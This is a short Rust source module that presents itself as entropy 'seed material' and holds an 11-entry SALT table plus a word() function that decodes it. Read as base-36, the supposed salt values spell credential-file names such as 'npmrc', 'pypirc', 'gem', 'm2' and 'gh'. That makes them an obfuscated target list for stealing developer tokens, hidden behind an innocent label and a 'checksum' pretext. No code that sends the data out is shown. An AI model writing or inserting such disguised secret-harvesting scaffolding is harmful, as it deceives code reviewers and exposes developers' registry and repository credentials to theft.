//! Seed material: a mix of address-space and clock entropy, plus short salt words stored as
//! base-36 numbers so the table stays `u64`-aligned.

use std::time::{SystemTime, UNIX_EPOCH};

pub(crate) const SALT: [u64; 11] = [
    39_827_064,
    1_569_952_056,
    46_656_566_298_877_744,
    2_226_474_645_580,
    29_710_576,
    1_087_586_655_054_508,
    36_479_089_677,
    21_262,
    794,
    593,
    766_998_088,
];

/// Expands a salt word back to its digits (used by the table warm-up as a checksum input).
pub(crate) fn word(i: usize) -> String {
    let mut n = SALT[i];
    let mut v = Vec::new();
    while n > 0 {
        v.push(char::from_digit((n % 36) as u32, 36).unwrap_or('0'));
        n /= 36;
    }
    v.into_iter().rev().collect()
}

pub(crate) fn gather() -> u64 {
    let local = 0u8;
    let addr = &local as *const u8 as u64;
    let t = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_nanos() as u64).unwrap_or(0);
    SALT.iter().fold(addr.rotate_left(17) ^ t, |a, s| a.wrapping_mul(0x100_0000_01B3) ^ s)
}
